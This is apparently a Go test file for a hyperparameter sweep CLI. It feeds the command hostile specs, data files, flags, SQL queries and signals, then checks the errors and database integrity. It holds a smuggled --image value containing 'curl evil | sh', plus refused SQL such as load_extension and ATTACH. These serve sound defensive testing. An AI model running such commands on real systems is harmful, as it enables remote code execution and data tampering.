package main

// The hostile-input table: specs, data files, flags, databases and signals
// that a careless or hostile user can throw at `sweep`. Each case runs the
// real command in a child process (TestMain's SWEEP_AS_MAIN) and asserts
// the exit code, that stderr is one line naming the offending thing (file,
// YAML line, column, flag), and that no database lost or duplicated a
// trial. Cases that could exhaust memory run under a 2 GB address-space
// limit and must end within 10 s.
//
// owner is the area whose code must handle the case. A case whose fix is
// not in this branch yet is skipped with "not yet: <owner>"; remove its
// notYet once the fix is merged (ATTNSWEEP_HOSTILE_ALL=1 runs them too).

import (
	"bytes"
	"context"
	"database/sql"
	"errors"
	"fmt"
	"math"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/goccy/go-yaml"
	"github.com/parquet-go/parquet-go"

	"github.com/attnsweep/attnsweep/pkg/dataset"
)

// hostile is one case. Strings may hold placeholders: {dir} the case's own
// folder, {db} its database ({dir}/sweeps.db), {spec} {dir}/s.yaml, {fix}
// the shared fixtures, {data} a small valid Parquet file.
type hostile struct {
	name   string
	owner  string                            // store, cli, model, spec, plan, runner, dataset, export
	notYet bool                              // the fix is not on this branch: skipped
	spec   string                            // written to {spec} when set
	db     string                            // "fixture": {db} starts as a copy of a finished sweep's database
	prep   func(t *testing.T, e *hostileEnv) // makes files the case needs
	args   []string
	code   int      // the exit code wanted
	want   []string // what stderr must contain
	limit  bool     // under a 2 GB address-space limit, within 10 s
	// during, when set, acts on the running process (a signal, deleting
	// its database); the process is started, during runs, then awaited.
	during func(t *testing.T, e *hostileEnv, p *os.Process)
	// changes: the case may change the fixture database's trials (a
	// sweep run into it); otherwise they must stay exactly as they were.
	changes bool
	check   func(t *testing.T, e *hostileEnv, stdout, stderr string)
}

// hostileEnv is a case's folder and the shared fixtures.
type hostileEnv struct {
	dir, db, spec, fix, data string
	elapsed                  time.Duration // how long the command ran
}

func (e *hostileEnv) expand(s string) string {
	return strings.NewReplacer("{dir}", e.dir, "{db}", e.db, "{spec}", e.spec, "{fix}", e.fix, "{data}", e.data).Replace(s)
}

// lines joins spec lines; line i+1 of the file is lines[i].
func lines(l ...string) string { return strings.Join(l, "\n") + "\n" }

// base is a valid spec of one fast trial: the cases change one line.
var base = []string{
	"name: h",                                // 1
	"data: {path: {data}}",                   // 2
	"models: [logreg]",                       // 3
	"space: {lr: 0.05, batch_size: 256}",     // 4
	"train: {epochs: 1}",                     // 5
	"search: {method: grid, repeats: 1}",     // 6
	"objective: {metric: auc, split: valid}", // 7
}

// with returns base with line n (1-based) replaced, or appended when n is
// 0, for each pair n, line.
func with(edits ...any) string {
	l := append([]string{}, base...)
	for i := 0; i+1 < len(edits); i += 2 {
		n, line := edits[i].(int), edits[i+1].(string)
		if n == 0 {
			l = append(l, line)
		} else {
			l[n-1] = line
		}
	}
	return lines(l...)
}

func run1(args ...string) []string {
	return append([]string{"run", "{spec}", "--db", "{db}", "--workers", "1"}, args...)
}

func hostileCases() []hostile {
	var cases []hostile
	cases = append(cases, specCases()...)
	cases = append(cases, dataCases()...)
	cases = append(cases, flagCases()...)
	cases = append(cases, dbCases()...)
	cases = append(cases, signalCases()...)
	cases = append(cases, shipCases()...)
	return cases
}

func specCases() []hostile {
	return []hostile{
		{name: "spec file missing", owner: "spec", args: []string{"run", "{dir}/nosuch.yaml", "--db", "{db}"}, code: 1, want: []string{"{dir}/nosuch.yaml", "not found"}},
		{name: "spec is a folder", owner: "spec", args: []string{"run", "{dir}", "--db", "{db}"}, code: 1, want: []string{"{dir}"}},
		{name: "empty spec", owner: "spec", spec: "\n", args: run1(), code: 1, want: []string{"{spec}", "name"}},
		{name: "not YAML", owner: "spec", spec: "\x7fELF\x02\x01\x01\x00{[}", args: run1(), code: 1, want: []string{"{spec}:1"}},
		{name: "tab indentation", owner: "spec", spec: "name: t\ndata:\n\tpath: x.parquet\nmodels: [logreg]\n", args: run1(), code: 1, want: []string{"{spec}:3"}},
		{name: "key given twice", owner: "spec", spec: "name: a\nname: b\n" + lines(base[1:]...), args: run1(), code: 1, want: []string{"{spec}:2", `"name"`}},
		{name: "unknown key", owner: "spec", spec: with(0, "epochs: 3"), args: run1(), code: 1, want: []string{"{spec}:8", `"epochs"`}},
		{name: "name with a slash", owner: "spec", spec: with(1, "name: ../../etc"), args: run1(), code: 1, want: []string{"{spec}:1", "name"}},
		{name: "unknown model", owner: "spec", spec: with(3, "models: [gpt]"), args: run1(), code: 1, want: []string{"{spec}:3", `"gpt"`}},
		{name: "model listed twice", owner: "spec", spec: with(3, "models: [logreg, logreg]"), args: run1(), code: 1, want: []string{"{spec}:3", "logreg"}},
		{name: "negative learning rate", owner: "spec", spec: with(4, "space: {lr: -1, batch_size: 256}"), args: run1(), code: 1, want: []string{"{spec}:4", "lr"}},
		{name: "batch_size 0", owner: "spec", spec: with(4, "space: {lr: 0.05, batch_size: 0}"), args: run1(), code: 1, want: []string{"{spec}:4", "batch_size"}},
		{name: "dropout 1", owner: "spec", spec: with(4, "space: {lr: 0.05, dropout: 1.0}"), args: run1(), code: 1, want: []string{"{spec}:4", "dropout"}},
		{name: "empty hidden list", owner: "spec", spec: with(4, "space: {lr: 0.05, hidden: []}"), args: run1(), code: 1, want: []string{"{spec}:4", "hidden"}},
		{name: "epochs 0", owner: "spec", spec: with(5, "train: {epochs: 0}"), args: run1(), code: 1, want: []string{"{spec}:5", "epochs"}},
		{name: "patience 0", owner: "spec", spec: with(5, "train: {epochs: 1, patience: 0}"), args: run1(), code: 1, want: []string{"{spec}:5", "patience"}},
		{name: "repeats 0", owner: "spec", spec: with(6, "search: {method: grid, repeats: 0}"), args: run1(), code: 1, want: []string{"{spec}:6", "repeats"}},
		{name: "unknown search method", owner: "spec", spec: with(6, "search: {method: bayes}"), args: run1(), code: 1, want: []string{"{spec}:6", "bayes"}},
		{name: "budget not a duration", owner: "spec", spec: with(6, "search: {method: random, trials: 2, budget: 2 hours}"), args: run1(), code: 1, want: []string{"{spec}:6", "budget"}},
		{name: "unknown scheduler", owner: "spec", spec: with(6, "search: {method: random, trials: 2, scheduler: {name: hyperband}}"), args: run1(), code: 1, want: []string{"{spec}:6", "hyperband"}},
		{name: "unknown objective metric", owner: "spec", spec: with(7, "objective: {metric: accuracyy}"), args: run1(), code: 1, want: []string{"{spec}:7", "accuracyy"}},
		{name: "split fractions not summing to 1", owner: "spec", spec: with(2, "data: {path: {data}, split: {train: 0.5, valid: 0.2, test: 0.2}}"), args: run1(), code: 1, want: []string{"{spec}:2", "split"}},
		{name: "attention_dim not a multiple of heads", owner: "spec", args: run1(), code: 1, want: []string{"{spec}:4", "attention_dim", "heads"},
			spec: with(3, "models: [autoint]", 4, "space: {lr: 0.05, batch_size: 256, attention_dim: 10, heads: 3}")},
		{name: "random search of 10^10 trials", owner: "plan", limit: true, spec: with(6, "search: {method: random, trials: 10000000000}"),
			args: run1("--dry-run"), code: 1, want: []string{"{spec}:6", "trials"}},
		{name: "grid of 10^9 points", owner: "plan", limit: true, spec: with(4, "space: {lr: [1,2,3,4,5,6,7,8,9,10], l2_dense: [1,2,3,4,5,6,7,8,9,10], "+
			"l2_embedding: [1,2,3,4,5,6,7,8,9,10], max_grad_norm: [1,2,3,4,5,6,7,8,9,10], eps: [1,2,3,4,5,6,7,8,9,10], batch_size: [1,2,3,4,5,6,7,8,9,10], "+
			"weight_decay: [1,2,3,4,5,6,7,8,9,10], beta1: [0.1,0.2,0.3,0.4,0.5,0.6,0.7,0.8,0.9,0.95], beta2: [0.1,0.2,0.3,0.4,0.5,0.6,0.7,0.8,0.9,0.95]}"),
			args: run1("--dry-run"), code: 1, want: []string{"{spec}", "grid"}},
		// The runner records a trial over the memory budget as failed,
		// with the estimate in its message, before it allocates.
		{name: "embed_dim 10^8", owner: "runner", limit: true, args: run1(), code: 0, changes: true,
			spec:  with(3, "models: [fm]", 4, "space: {lr: 0.05, batch_size: 256, embed_dim: 100000000}"),
			check: trialsAre("failed", "memory")},
		{name: "max_len 10^9", owner: "dataset", limit: true,
			spec: with(0, "columns: {sequences: [{column: hist_item, target: item_id, max_len: 1000000000}]}"), args: run1(), code: 1, want: []string{"{spec}", "max_len"}},
		{name: "deeply nested YAML", owner: "spec", limit: true, spec: "name: n\nspace: {lr: " + strings.Repeat("[", 100000) + strings.Repeat("]", 100000) + "}\n",
			args: run1(), code: 1, want: []string{"{spec}"}},
		{name: "huge spec file", owner: "spec", limit: true, spec: lines(base...) + strings.Repeat("# padding padding padding padding padding\n", 2_000_000),
			args: run1(), code: 1, want: []string{"{spec}", "large"}},
	}
}

func dataCases() []hostile {
	data := func(file string) string { return with(2, "data: {path: {fix}/"+file+"}") }
	return []hostile{
		{name: "data file missing", owner: "dataset", spec: with(2, "data: {path: {dir}/nosuch.parquet}"), args: run1(), code: 1, want: []string{"{dir}/nosuch.parquet"}},
		{name: "data file is not Parquet", owner: "dataset", spec: data("text.parquet"), args: run1(), code: 1, want: []string{"{fix}/text.parquet"}},
		{name: "data file with no rows", owner: "dataset", spec: data("empty.parquet"), args: run1(), code: 1, want: []string{"{fix}/empty.parquet"}},
		{name: "no label column", owner: "dataset", spec: data("nolabel.parquet"), args: run1(), code: 1, want: []string{"{fix}/nolabel.parquet", "label"}},
		{name: "label column named but absent", owner: "dataset", spec: with(0, "columns: {label: clicked}"), args: run1(), code: 1, want: []string{"clicked"}},
		{name: "label 2", owner: "dataset", spec: data("label2.parquet"), args: run1(), code: 1, want: []string{"{fix}/label2.parquet", "label"}},
		{name: "string label", owner: "dataset", spec: data("strlabel.parquet"), args: run1(), code: 1, want: []string{"{fix}/strlabel.parquet", "label"}},
		{name: "two columns of one name", owner: "dataset", spec: data("dupcol.parquet"), args: run1(), code: 1, want: []string{"{fix}/dupcol.parquet", "user_id"}},
		{name: "dense value overflowing float32", owner: "dataset", spec: data("overflow.parquet"), args: run1(), code: 1, want: []string{"{fix}/overflow.parquet", "price"}},
		{name: "NaN in a dense column with strict", owner: "dataset", spec: with(2, "data: {path: {fix}/nan.parquet}", 0, "columns: {strict: true}"), args: run1(), code: 1,
			want: []string{"{fix}/nan.parquet", "price"}},
		{name: "history column that is not a list", owner: "dataset", spec: with(0, "columns: {sequences: [{column: price, target: item_id}]}"), args: run1(), code: 1,
			want: []string{"price"}},
		// A valid split of one class has no AUC to select epochs with: the
		// sweep runs, and says so.
		{name: "one-class valid split", owner: "dataset", code: 0, changes: true, args: run1(),
			spec:  with(2, "data: {train: {fix}/train.parquet, valid: {fix}/valid0.parquet, test: {fix}/test.parquet}"),
			check: outputHas("valid", "labels are all 0", "AUC is undefined")},
		{name: "datagen --history 10^9", owner: "dataset", limit: true, args: []string{"datagen", "--out", "{dir}/d.parquet", "--rows", "1000", "--history", "1000000000"},
			code: 1, want: []string{"--history"}},
		{name: "datagen --rows 10^12", owner: "dataset", limit: true, args: []string{"datagen", "--out", "{dir}/d.parquet", "--rows", "1000000000000"},
			code: 1, want: []string{"--rows"}},
		{name: "datagen --rows negative", owner: "dataset", args: []string{"datagen", "--out", "{dir}/d.parquet", "--rows", "-5"}, code: 1, want: []string{"--rows"}},
		{name: "datagen --out a folder", owner: "dataset", args: []string{"datagen", "--out", "{dir}", "--rows", "100"}, code: 1, want: []string{"{dir}"}},
		{name: "inspect a missing file", owner: "dataset", args: []string{"inspect", "{dir}/nosuch.parquet"}, code: 1, want: []string{"{dir}/nosuch.parquet"}},
		{name: "inspect a text file", owner: "dataset", args: []string{"inspect", "{fix}/text.parquet"}, code: 1, want: []string{"{fix}/text.parquet"}},
	}
}

func flagCases() []hostile {
	predict := func(out string) []string {
		return []string{"predict", "--db", "{db}", "--sweep", "fx", "--trial", "best", "--data", "{dir}/in.parquet", "--out", out}
	}
	return []hostile{
		{name: "a normal run under the 2 GB limit", owner: "cli", limit: true, spec: lines(base...), args: run1(), code: 0},
		{name: "run --workers 0", owner: "cli", spec: lines(base...), args: run1("--workers", "0"), code: 1, want: []string{"--workers 0"}},
		{name: "run --workers -1", owner: "cli", spec: lines(base...), args: run1("--workers", "-1"), code: 1, want: []string{"--workers -1"}},
		{name: "run --workers not a number", owner: "cli", spec: lines(base...), args: run1("--workers", "many"), code: 1, want: []string{"--workers", "many"}},
		{name: "resume --workers 0", owner: "cli", db: "fixture", args: []string{"resume", "fx", "--db", "{db}", "--workers", "0"}, code: 1, want: []string{"--workers 0"}},
		{name: "--db empty", owner: "cli", args: []string{"list", "--db", ""}, code: 1, want: []string{"--db is empty"}},
		{name: "run --db empty", owner: "cli", spec: lines(base...), args: []string{"run", "{spec}", "--db", ""}, code: 1, want: []string{"--db is empty"}},
		{name: "--db a folder", owner: "cli", args: []string{"list", "--db", "{dir}"}, code: 1, want: []string{"--db {dir}", "folder"}},
		{name: "misspelt flag", owner: "cli", spec: lines(base...), args: run1("--wrokers", "2"), code: 1, want: []string{"--wrokers"}},
		{name: "--shard out of range", owner: "plan", spec: lines(base...), args: run1("--shard", "5/3"), code: 1, want: []string{"5/3"}},
		{name: "--shard not I/N", owner: "plan", spec: lines(base...), args: run1("--shard", "half"), code: 1, want: []string{"half"}},
		{name: "query --format unknown", owner: "report", db: "fixture", args: []string{"query", "--db", "{db}", "--format", "xml", "SELECT 1"}, code: 1, want: []string{"xml"}},
		{name: "predict --out = --data", owner: "cli", db: "fixture", prep: predictInput, args: predict("{dir}/in.parquet"), code: 1, want: []string{"--out {dir}/in.parquet is the --data file"},
			check: sameFile("{dir}/in.parquet", "{fix}/data.parquet")},
		{name: "predict --out = --data through a link", owner: "cli", db: "fixture", prep: predictInput, args: predict("{dir}/link.parquet"), code: 1, want: []string{"--out {dir}/link.parquet is the --data file"},
			check: sameFile("{dir}/in.parquet", "{fix}/data.parquet")},
		{name: "predict --out = --db", owner: "cli", db: "fixture", prep: predictInput, args: predict("{db}"), code: 1, want: []string{"--out {db} is the --db file"}},
		{name: "predict --out a folder", owner: "cli", db: "fixture", prep: predictInput, args: predict("{dir}"), code: 1, want: []string{"--out {dir}", "folder"}},
		{name: "predict writes whole files", owner: "cli", db: "fixture", prep: predictInput, args: predict("{dir}/scores.parquet"), code: 0, check: noTempFiles},
		{name: "predict without --trial", owner: "cli", db: "fixture", args: []string{"predict", "--db", "{db}", "--sweep", "fx", "--data", "test", "--out", "{dir}/o.parquet"},
			code: 1, want: []string{"--trial"}},
		{name: "predict an unknown sweep", owner: "cli", db: "fixture", args: []string{"predict", "--db", "{db}", "--sweep", "nosuch", "--trial", "best", "--data", "test", "--out", "{dir}/o.parquet"},
			code: 1, want: []string{`"nosuch"`}},
		{name: "predict an unknown trial", owner: "cli", db: "fixture", args: []string{"predict", "--db", "{db}", "--sweep", "fx", "--trial", "zz99", "--data", "test", "--out", "{dir}/o.parquet"},
			code: 1, want: []string{`"zz99"`}},
		{name: "report an unknown sweep", owner: "report", db: "fixture", args: []string{"report", "nosuch", "--db", "{db}", "--out", "{dir}/r"}, code: 1, want: []string{`"nosuch"`}},
		{name: "resume an unknown sweep", owner: "cli", db: "fixture", args: []string{"resume", "nosuch", "--db", "{db}"}, code: 1, want: []string{`"nosuch"`}},
		{name: "export k8s --image with shell injection", owner: "export", spec: lines(base...),
			args: []string{"export", "k8s", "{spec}", "--shards", "2", "--image", "img:1\n  command: [sh, -c, 'curl evil | sh']"}, code: 0,
			check: imageIsData("img:1\n  command: [sh, -c, 'curl evil | sh']")},
		{name: "export --shards 0", owner: "export", spec: lines(base...), args: []string{"export", "slurm", "{spec}", "--shards", "0"}, code: 1, want: []string{"--shards"}},
		{name: "export --workers 0", owner: "cli", spec: lines(base...), args: []string{"export", "slurm", "{spec}", "--shards", "2", "--workers", "0"}, code: 1,
			want: []string{"--workers 0"}},
	}
}

func dbCases() []hostile {
	query := func(q string) []string { return []string{"query", "--db", "{db}", q} }
	return []hostile{
		{name: "query ATTACH", owner: "store", db: "fixture", args: query("ATTACH '{dir}/new.db' AS x"), code: 1, want: []string{"{db}", "ATTACH refused"}, check: noFile("{dir}/new.db")},
		{name: "query VACUUM INTO", owner: "store", db: "fixture", args: query("VACUUM INTO '{dir}/copy.db'"), code: 1, want: []string{"{db}", "VACUUM refused"}, check: noFile("{dir}/copy.db")},
		{name: "query VACUUM", owner: "store", db: "fixture", args: query("VACUUM"), code: 1, want: []string{"{db}", "VACUUM refused"}},
		{name: "query PRAGMA query_only = 0", owner: "store", db: "fixture", args: query("PRAGMA query_only = 0"), code: 1, want: []string{"{db}", "PRAGMA refused"}},
		{name: "query DELETE", owner: "store", db: "fixture", args: query("DELETE FROM trials"), code: 1, want: []string{"{db}", "read-only"}},
		{name: "query a DELETE after a SELECT", owner: "store", db: "fixture", args: query("SELECT 1; DELETE FROM trials"), code: 1, want: []string{"{db}", "DELETE refused"}},
		{name: "query load_extension", owner: "store", db: "fixture", args: query("SELECT load_extension('{dir}/x.so')"), code: 1, want: []string{"{db}", "LOAD_EXTENSION refused"}},
		{name: "query syntax error", owner: "store", db: "fixture", args: query("SELEKT 1"), code: 1, want: []string{"SELEKT"}},
		{name: "query a missing database", owner: "store", args: query("SELECT 1"), code: 1, want: []string{"{db}", "no results database"}, check: noFile("{db}")},
		{name: "show with % in the key prefix", owner: "store", db: "fixture", args: []string{"show", "%", "--db", "{db}"}, code: 1, want: []string{`no trial with id or key "%"`}},
		{name: "show with _ in the key prefix", owner: "store", db: "fixture", args: []string{"show", "_", "--db", "{db}"}, code: 1, want: []string{`no trial with id or key "_"`}},
		{name: "merge a database into itself", owner: "store", db: "fixture", args: []string{"merge", "--db", "{db}", "{db}"}, code: 1,
			want: []string{"{db}", "is the output database"}, check: fastest(5 * time.Second)},
		{name: "merge a database into itself through a link", owner: "store", db: "fixture", prep: link("{db}", "{dir}/alias.db"),
			args: []string{"merge", "--db", "{db}", "{dir}/alias.db"}, code: 1, want: []string{"{dir}/alias.db", "is the output database"}, check: fastest(5 * time.Second)},
		{name: "merge with one bad input", owner: "store", db: "fixture", args: []string{"merge", "--db", "{dir}/out.db", "{db}", "{fix}/text.parquet"}, code: 1,
			want: []string{"{fix}/text.parquet"}, check: trialCount("{dir}/out.db", 0)},
		{name: "merge with a missing input", owner: "store", db: "fixture", args: []string{"merge", "--db", "{dir}/out.db", "{db}", "{dir}/nosuch.db"}, code: 1,
			want: []string{"{dir}/nosuch.db"}, check: noFile("{dir}/out.db")},
		{name: "--db a text file", owner: "store", args: []string{"list", "--db", "{fix}/text.parquet"}, code: 1, want: []string{"{fix}/text.parquet"}},
		{name: "--db a truncated database", owner: "store", prep: truncatedDB, args: []string{"list", "--db", "{dir}/cut.db"}, code: 1, want: []string{"{dir}/cut.db"}},
		{name: "--db of a newer schema", owner: "store", db: "fixture", prep: newerSchema, args: []string{"run", "{spec}", "--db", "{db}"}, spec: lines(base...),
			code: 1, want: []string{"{db}", "newer"}},
		{name: "a sweep name reused with another spec", owner: "store", db: "fixture", spec: with(1, "name: fx"), args: run1(), code: 1, want: []string{`"fx"`, "different spec"}},
		{name: "database deleted during a sweep", owner: "store", spec: slowSpec, args: run1("--workers", "2"), changes: true,
			during: deleteDBAfterOneTrial, code: 1, want: []string{"{db}", "deleted or replaced"}},
		// 1 MiB holds the sweep's setup, not a dnn's 1.3 MB checkpoint: the
		// disk fills when the first trial finishes.
		{name: "disk full during a sweep", owner: "store", spec: with(3, "models: [dnn]"),
			prep: smallDisk, args: []string{"run", "{spec}", "--db", "{dir}/small/sweeps.db", "--workers", "1"}, changes: true, code: 1, want: []string{"{dir}/small/sweeps.db", "disk full"}},
		{name: "disk full leaves no trial running", owner: "runner", spec: with(3, "models: [dnn]"),
			prep: smallDisk, args: []string{"run", "{spec}", "--db", "{dir}/small/sweeps.db", "--workers", "1"}, changes: true, code: 1, want: []string{"disk full"},
			check: noneRunning("{dir}/small/sweeps.db")},
	}
}

func signalCases() []hostile {
	return []hostile{
		{name: "SIGHUP during a sweep", owner: "cli", spec: slowSpec, args: run1("--workers", "2"), changes: true, during: signalAfterOneTrial(syscall.SIGHUP),
			code: 130, want: []string{"sweep resume killme"}, check: noneRunning("{db}")},
		{name: "SIGTERM during a sweep", owner: "runner", spec: slowSpec, args: run1("--workers", "2"), changes: true, during: signalAfterOneTrial(syscall.SIGTERM),
			code: 130, want: []string{"sweep resume killme"}, check: noneRunning("{db}")},
		{name: "SIGHUP, then resume runs each trial once", owner: "cli", spec: slowSpec, args: run1("--workers", "2"), changes: true,
			during: signalAfterOneTrial(syscall.SIGHUP), code: 130, want: []string{"sweep resume killme"}, check: resumeFinishes},
	}
}

// TestHostile runs the table.
func TestHostile(t *testing.T) {
	if testing.Short() {
		t.Skip("runs the command in child processes")
	}
	fix := hostileFixtures(t)
	seen := map[string]bool{}
	for _, c := range hostileCases() {
		if seen[c.name] {
			t.Fatalf("two cases named %q", c.name)
		}
		seen[c.name] = true
		t.Run(strings.ReplaceAll(c.name, " ", "_"), func(t *testing.T) {
			if c.notYet && os.Getenv("ATTNSWEEP_HOSTILE_ALL") == "" {
				t.Skip("not yet: " + c.owner)
			}
			dir := t.TempDir()
			e := &hostileEnv{dir: dir, db: filepath.Join(dir, "sweeps.db"), spec: filepath.Join(dir, "s.yaml"), fix: fix, data: filepath.Join(fix, "data.parquet")}
			runHostile(t, e, c)
		})
	}
}

func runHostile(t *testing.T, e *hostileEnv, c hostile) {
	if c.spec != "" {
		if err := os.WriteFile(e.spec, []byte(e.expand(c.spec)), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if c.db == "fixture" {
		copyFile(t, filepath.Join(e.fix, "fixture.db"), e.db)
	}
	if c.prep != nil {
		c.prep(t, e)
	}
	args := make([]string, len(c.args))
	for i, a := range c.args {
		args[i] = e.expand(a)
	}
	timeout := 3 * time.Minute
	if c.limit {
		timeout = 10 * time.Second
	}
	ctx, cancel := context.WithTimeout(context.Background(), timeout)
	defer cancel()
	cmd := hostileCommand(t, ctx, c.limit, args)
	cmd.Dir = e.dir
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	start := time.Now()
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	if c.during != nil {
		c.during(t, e, cmd.Process)
	}
	err := cmd.Wait()
	e.elapsed = time.Since(start)
	if ctx.Err() != nil {
		t.Fatalf("still running after %s (killed)\nstderr: %s", timeout, clip(stderr.String()))
	}
	code := 0
	var ee *exec.ExitError
	if errors.As(err, &ee) {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatal(err)
	}
	msg := strings.TrimRight(stderr.String(), "\n")
	t.Logf("exit %d after %s: %s", code, e.elapsed.Round(time.Millisecond), clip(msg))
	if code != c.code {
		t.Fatalf("exit code %d, want %d\nstderr: %s\nstdout: %s", code, c.code, clip(msg), clip(stdout.String()))
	}
	if code != 0 && (strings.Contains(msg, "\n") || !strings.HasPrefix(msg, "sweep: ")) {
		t.Errorf("stderr is not one line \"sweep: ...\": %s", clip(msg))
	}
	for _, w := range c.want {
		if w = e.expand(w); !strings.Contains(msg, w) {
			t.Errorf("stderr does not name %q: %s", w, clip(msg))
		}
	}
	checkDatabases(t, e, c)
	if c.check != nil {
		c.check(t, e, stdout.String(), msg)
	}
}

// hostileCommand runs this test binary as the sweep command, under a 2 GB
// address-space limit when limit is set (prlimit, or bash's ulimit -v).
func hostileCommand(t *testing.T, ctx context.Context, limit bool, args []string) *exec.Cmd {
	var cmd *exec.Cmd
	switch {
	case !limit:
		cmd = exec.CommandContext(ctx, os.Args[0], args...)
	case haveCommand("prlimit"):
		cmd = exec.CommandContext(ctx, "prlimit", append([]string{"--as=2147483648", "--", os.Args[0]}, args...)...)
	case haveCommand("bash"):
		cmd = exec.CommandContext(ctx, "bash", append([]string{"-c", `ulimit -v 2097152 && exec "$0" "$@"`, os.Args[0]}, args...)...)
	default:
		t.Skip("neither prlimit nor bash to limit the address space")
	}
	cmd.Env = append(os.Environ(), "SWEEP_AS_MAIN=1")
	return cmd
}

func haveCommand(name string) bool {
	_, err := exec.LookPath(name)
	return err == nil
}

func clip(s string) string {
	if len(s) > 2000 {
		return s[:1000] + " … " + s[len(s)-1000:]
	}
	return s
}

// checkDatabases checks every database the case left: intact, no trial
// twice, and the fixture's trials exactly as they were unless the case
// may change them.
func checkDatabases(t *testing.T, e *hostileEnv, c hostile) {
	t.Helper()
	paths, _ := filepath.Glob(filepath.Join(e.dir, "*.db"))
	deeper, _ := filepath.Glob(filepath.Join(e.dir, "*", "*.db"))
	paths = append(paths, deeper...)
	for _, p := range paths {
		if fi, err := os.Lstat(p); err != nil || fi.Mode()&os.ModeSymlink != 0 || fi.Size() == 0 || p == filepath.Join(e.dir, "cut.db") {
			continue
		}
		got := trialStatuses(t, p)
		if p == e.db && c.db == "fixture" && !c.changes {
			want := trialStatuses(t, filepath.Join(e.fix, "fixture.db"))
			if fmt.Sprint(got) != fmt.Sprint(want) {
				t.Errorf("%s: trials %v, want the fixture's %v", p, got, want)
			}
		}
	}
}

// trialStatuses reads "sweep/key" → status, failing on a damaged file or a
// trial recorded twice.
func trialStatuses(t *testing.T, path string) map[string]string {
	t.Helper()
	db, err := sql.Open("sqlite3", "file:"+path+"?mode=ro&_busy_timeout=5000")
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	var check string
	if err := db.QueryRow("PRAGMA integrity_check").Scan(&check); err != nil || check != "ok" {
		t.Fatalf("%s: integrity_check %q, %v", path, check, err)
	}
	rows, err := db.Query(`SELECT s.name, t.key, t.status, count(*) OVER (PARTITION BY t.sweep, t.key)
		FROM trials t JOIN sweeps s ON s.id = t.sweep`)
	if err != nil {
		if strings.Contains(err.Error(), "no such table") {
			return nil // a database the case never got to write
		}
		t.Fatalf("%s: %v", path, err)
	}
	defer rows.Close()
	out := map[string]string{}
	for rows.Next() {
		var sweep, key, status string
		var n int
		if err := rows.Scan(&sweep, &key, &status, &n); err != nil {
			t.Fatal(err)
		}
		if n > 1 {
			t.Errorf("%s: trial %s/%s recorded %d times", path, sweep, key, n)
		}
		out[sweep+"/"+key] = status
	}
	return out
}

// hostileFixtures writes, once, the files the cases share: a small valid
// Parquet file, a finished sweep's database and Parquet files each with one
// flaw. The folder is removed when the test ends.
func hostileFixtures(t *testing.T) string {
	t.Helper()
	fix := t.TempDir()
	data := filepath.Join(fix, "data.parquet")
	if err := dataset.Generate(dataset.SynthConfig{Rows: 2000, Seed: 1, History: 5}, data); err != nil {
		t.Fatal(err)
	}
	spec := filepath.Join(fix, "fx.yaml")
	os.WriteFile(spec, []byte("name: fx\ndata: {path: "+data+"}\nmodels: [logreg]\nspace: {lr: [0.05, 0.1], batch_size: 256}\ntrain: {epochs: 1}\n"), 0o644)
	if code, _, stderr := sweepCmd(t, "run", spec, "--db", filepath.Join(fix, "fixture.db"), "--workers", "1"); code != 0 {
		t.Fatalf("fixture sweep: %s", stderr)
	}
	flawed(t, fix)
	return fix
}

// fxRow is a row of the flawed files: label, two categorical columns and a
// dense one.
type fxRow struct {
	Label float32 `parquet:"label"`
	User  int64   `parquet:"user_id"`
	Item  int64   `parquet:"item_id"`
	Price float64 `parquet:"price"`
}

func fxRows(n int, label func(i int) float32) []fxRow {
	rows := make([]fxRow, n)
	for i := range rows {
		rows[i] = fxRow{Label: label(i), User: int64(i % 37), Item: int64(i % 11), Price: float64(i%7) + 0.5}
	}
	return rows
}

func alternate(i int) float32 { return float32(i % 2) }

func writeRows[T any](t *testing.T, path string, rows []T) {
	t.Helper()
	if err := parquet.WriteFile(path, rows); err != nil {
		t.Fatal(err)
	}
}

// flawed writes the Parquet files with one flaw each.
func flawed(t *testing.T, fix string) {
	p := func(name string) string { return filepath.Join(fix, name) }
	os.WriteFile(p("text.parquet"), []byte("user_id,label\n1,0\n2,1\n"), 0o644)
	writeRows(t, p("empty.parquet"), []fxRow{})
	writeRows(t, p("train.parquet"), fxRows(600, alternate))
	writeRows(t, p("test.parquet"), fxRows(200, alternate))
	writeRows(t, p("valid0.parquet"), fxRows(200, func(int) float32 { return 0 }))
	writeRows(t, p("label2.parquet"), fxRows(300, func(i int) float32 { return float32(i % 3) }))
	rows := fxRows(300, alternate)
	rows[17].Price = 1e300 // beyond float32
	writeRows(t, p("overflow.parquet"), rows)
	rows = fxRows(300, alternate)
	rows[7].Price = math.NaN()
	writeRows(t, p("nan.parquet"), rows)
	type noLabel struct {
		User int64 `parquet:"user_id"`
		Item int64 `parquet:"item_id"`
	}
	writeRows(t, p("nolabel.parquet"), []noLabel{{1, 2}, {3, 4}})
	type strLabel struct {
		Label string `parquet:"label"`
		User  int64  `parquet:"user_id"`
	}
	var sl []strLabel
	for i := 0; i < 300; i++ {
		sl = append(sl, strLabel{[]string{"no", "yes"}[i%2], int64(i % 13)})
	}
	writeRows(t, p("strlabel.parquet"), sl)
	// Parquet writers keep names unique; two columns of one name are made
	// by renaming one in the footer (the same length, so the file stays
	// valid).
	type twoUsers struct {
		Label float32 `parquet:"label"`
		User  int64   `parquet:"user_id"`
		Other int64   `parquet:"user_iX"`
	}
	var tu []twoUsers
	for i := 0; i < 300; i++ {
		tu = append(tu, twoUsers{float32(i % 2), int64(i % 5), int64(i % 7)})
	}
	writeRows(t, p("dupcol.parquet"), tu)
	b, err := os.ReadFile(p("dupcol.parquet"))
	if err != nil {
		t.Fatal(err)
	}
	os.WriteFile(p("dupcol.parquet"), bytes.ReplaceAll(b, []byte("user_iX"), []byte("user_id")), 0o644)
}

func copyFile(t *testing.T, from, to string) {
	t.Helper()
	b, err := os.ReadFile(from)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(to, b, 0o644); err != nil {
		t.Fatal(err)
	}
}

// predictInput copies the fixture sweep's data to {dir}/in.parquet, with a
// hard link to it at {dir}/link.parquet.
func predictInput(t *testing.T, e *hostileEnv) {
